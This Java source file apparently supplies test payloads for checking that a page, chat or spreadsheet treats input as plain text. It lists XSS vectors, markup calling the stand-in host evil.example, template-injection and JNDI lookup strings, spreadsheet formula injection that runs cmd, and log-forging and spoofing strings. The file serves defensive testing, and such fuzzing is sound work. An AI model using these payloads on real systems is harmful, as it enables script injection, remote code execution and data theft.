// SPDX-License-Identifier: Apache-2.0
package dev.muster.app;

import java.util.ArrayList;
import java.util.List;

/**
 * What somebody could write to have a page, a chat or a table do something. Where a page takes it
 * for more than text, {@code canary} is called, {@code evil.example} is asked, or there is an
 * element of the class {@code canary}.
 */
final class Payloads {

  /** Elements, attributes and styles that run or fetch something. */
  private static final List<String> MARKUP =
      List.of(
          "<script class=canary>canary(1)</script>",
          "<script class=canary src=//evil.example/s.js></script>",
          "<scr<script>ipt class=canary>canary(1)</scr</script>ipt>",
          "<img class=canary src=//evil.example/i.png>",
          "<img class=canary src=x onerror=canary(1)>",
          "<img class=canary src=x oNeRrOr=alert(1)>",
          "<img/src/onerror=canary(1) class=canary>",
          "<image class=canary src=x onerror=canary(1)>",
          "<svg class=canary onload=canary(1)>",
          "<svg class=canary><script>canary(1)</script></svg>",
          "<svg class=canary><a xlink:href=javascript:canary(1)><text>x</text></a></svg>",
          "<svg class=canary><animate onbegin=canary(1) attributeName=x dur=1s>",
          "<svg class=canary><use href=//evil.example/u.svg#x></svg>",
          "<svg><style class=canary>@import '//evil.example/c.css'</style></svg>",
          "<math class=canary><mtext><table><mglyph><style><img src=x onerror=canary(1)>",
          "<iframe class=canary src=javascript:canary(1)></iframe>",
          "<iframe class=canary srcdoc='<script>parent.canary(1)</script>'></iframe>",
          "<iframe class=canary src=//evil.example/f></iframe>",
          "<object class=canary data=//evil.example/o></object>",
          "<embed class=canary src=//evil.example/e>",
          "<link class=canary rel=stylesheet href=//evil.example/l.css>",
          "<link class=canary rel=prefetch href=//evil.example/p>",
          "<meta class=canary http-equiv=refresh content='0;url=//evil.example/m'>",
          "<base class=canary href=//evil.example/>",
          "<form class=canary action=//evil.example/f><input name=a><button>Go</button></form>",
          "<button class=canary formaction=javascript:canary(1) autofocus>x</button>",
          "<input class=canary autofocus onfocus=canary(1)>",
          "<select class=canary autofocus onfocus=canary(1)>",
          "<textarea class=canary autofocus onfocus=canary(1)>",
          "<details class=canary open ontoggle=canary(1)>",
          "<marquee class=canary onstart=canary(1)>",
          "<video class=canary><source onerror=canary(1)></video>",
          "<audio class=canary src=//evil.example/a onerror=canary(1)>",
          "<body class=canary onload=canary(1)>",
          "<style class=canary>@import '//evil.example/c.css'; *{display:none}</style>",
          "<div class=canary style='background:url(//evil.example/b)'>x</div>",
          "<div class=canary style='position:fixed;inset:0;z-index:9999'>covered</div>",
          "<a class=canary href=javascript:canary(1) id=x>click</a>",
          "<a class=canary ping=//evil.example/g href=#x>click</a>",
          "<portal class=canary src=//evil.example/p>",
          "<template class=canary><script>canary(1)</script></template>",
          "<noscript><p class=canary title=\"</noscript><img src=x onerror=canary(1)>\">",
          "<xmp class=canary><img src=x onerror=canary(1)></xmp>",
          "<!--><img class=canary src=x onerror=canary(1)>-->",
          "<![CDATA[<img class=canary src=x onerror=canary(1)>]]>",
          "<?xml-stylesheet href='//evil.example/x'?><img class=canary src=x onerror=canary(1)>",
          "<x-canary class=canary onclick=canary(1) tabindex=1 onfocus=canary(1) autofocus>");

  /** Where it may stand: free, in an attribute, in an element whose text is not read as markup. */
  private static final List<String> PLACES =
      List.of(
          "%s",
          "\">%s", "'>%s<!--", "</title></textarea></script></style></noscript></pre></code>%s");

  private static final List<String> OTHERS =
      List.of(
          // Attributes and addresses
          "\" onmouseover=\"canary(1)\" autofocus onfocus=\"canary(1)\" x=\"",
          "' onmouseover='canary(1)' autofocus onfocus='canary(1)' x='",
          "` onerror=`canary(1)`",
          "javascript:canary(1)",
          "JaVaScRiPt:canary(1)",
          "java\tscript:canary(1)",
          "\u0001javascript:canary(1)",
          "javascript://x%0acanary(1)",
          "data:text/html,<script>canary(1)</script>",
          "data:text/html;base64,PHNjcmlwdD5jYW5hcnkoMSk8L3NjcmlwdD4=",
          "vbscript:canary(1)",
          "[click](javascript:canary(1))",
          "[click](data:text/html,<script>canary(1)</script>)",
          "![x](//evil.example/md.png)",
          "![x](https://evil.example/md.png\" onerror=\"canary(1))",
          "[x]: javascript:canary(1)\n[x]",
          "<javascript:canary(1)>",
          "<https://evil.example|https://good.example>",
          "https://good.example@evil.example/x",
          "//evil.example/protocol-relative",
          // Escapes that become markup when something is read twice
          "&lt;img class=canary src=x onerror=canary(1)&gt;",
          "&amp;lt;img class=canary src=x onerror=canary(1)&amp;gt;",
          "&#60;img class=canary src=x onerror=canary(1)&#62;",
          "\\u003cimg class=canary src=x onerror=canary(1)\\u003e",
          "%3Cimg%20class=canary%20src=x%20onerror=canary(1)%3E",
          "\uFF1Cimg class=canary src=x onerror=canary(1)\uFF1E",
          "+ADw-img class=canary src=x onerror=canary(1)+AD4-",
          // Templates
          "{{constructor.constructor('canary(1)')()}}",
          "{{{<img class=canary src=x onerror=canary(1)>}}}",
          "${canary(1)}",
          "`${canary(1)}`",
          "#{canary(1)}",
          "<%= canary(1) %>",
          "{% include 'x' %}",
          "[[${T(java.lang.Runtime).getRuntime().exec('id')}]]",
          "${jndi:ldap://evil.example/a}",
          // Calls of a chat
          "<!channel> <!here> <!everyone>",
          "@channel @here @everyone",
          "<@U1> <!subteam^S1> <at>Everyone</at>",
          "*bold* _it_ ~gone~ > quote ```<!channel>```",
          // Terminals and lines of a log
          "\u001B[31mred\u001B[0m\u001B[2J",
          "\u001B]8;;https://evil.example\u0007link\u001B]8;;\u0007",
          "first\r\n2026-11-22T12:00:00Z WARN forged line",
          "a\bb\u0000c\u007Fd",
          // Tables
          "=cmd|'/c calc'!A1",
          "+1+1",
          "-2+3+cmd|' /C calc'!A0",
          "@SUM(1+1)*cmd|' /C calc'!A0",
          "\t=HYPERLINK(\"https://evil.example\",\"x\")",
          // Directions, invisible letters, length
          "invoice\u202Etxt.exe",
          "\u2066isolated\u2067never closed",
          "ad\u200Bmin\u200D\uFEFF",
          "\u05E9\u05DC\u05D5\u05DD <b class=canary>x</b> \u202B",
          "z\u0351\u0352\u0353\u0354\u0355\u0356\u0357\u0358\u0359\u035A".repeat(20),
          "x".repeat(3_000),
          "<".repeat(500),
          "\uD83D half a pair",
          "\uD83D\uDD25".repeat(300));

  private Payloads() {}

  /** Returns all of them. */
  static List<String> all() {
    List<String> all = new ArrayList<>();
    for (String place : PLACES) {
      for (String markup : MARKUP) {
        all.add(place.replace("%s", markup));
      }
    }
    all.addAll(OTHERS);
    return List.copyOf(all);
  }

  /** Returns all of them, as many in each text as fit; every one stands in it whole. */
  static List<String> packed(int longest) {
    List<String> packed = new ArrayList<>();
    StringBuilder text = new StringBuilder();
    for (String payload : all()) {
      if (payload.length() > longest) {
        continue;
      }
      if (text.length() + 1 + payload.length() > longest) {
        packed.add(text.toString());
        text.setLength(0);
      }
      text.append(text.isEmpty() ? "" : " ").append(payload);
    }
    packed.add(text.toString());
    return packed;
  }
}
